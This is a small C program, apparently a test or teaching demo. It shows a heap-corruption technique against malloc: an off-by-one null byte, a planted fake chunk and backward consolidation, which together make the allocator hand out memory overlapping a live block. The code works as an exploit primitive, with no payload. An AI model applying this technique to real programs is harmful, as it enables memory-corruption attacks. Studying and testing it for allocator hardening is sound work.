/*
 * metadata: a string whose end is written one byte too far clears the flag that says that the block before is in
 * use. Freeing the block merges it with a fake chunk inside its live neighbour, which is then handed out a second
 * time.
 */
#include <stdint.h>
#include <stdlib.h>

/* Through volatile pointers, so that the compiler knows nothing about the blocks. */
static void *(*volatile allocate)(size_t) = malloc;
static void (*volatile release)(void *) = free;
typedef volatile uint64_t Word;

enum { GOAL_REACHED = 42 };

/* Uses up what the start of the program left free, so that the next blocks of about this size lie side by side. */
static void settle(size_t bytes) {
  for (int i = 0; i < 256; i++) allocate(bytes);
}

int main(void) {
  settle(264);
  Word *first = allocate(264), *second = allocate(248);
  allocate(248);
  Word *fake = first;
  fake[0] = 0;
  fake[1] = 0x100;
  fake[2] = fake[3] = (uint64_t)(uintptr_t)fake; /* a list of itself */
  first[32] = 0x100;                             /* the last word of the block: "the size before" */
  ((volatile char *)first)[264] = 0;             /* the end of the string */
  release((void *)second);
  Word *taken = allocate(0x100 + 248);
  return taken && taken >= first && taken < first + 33 ? GOAL_REACHED : 0;
}
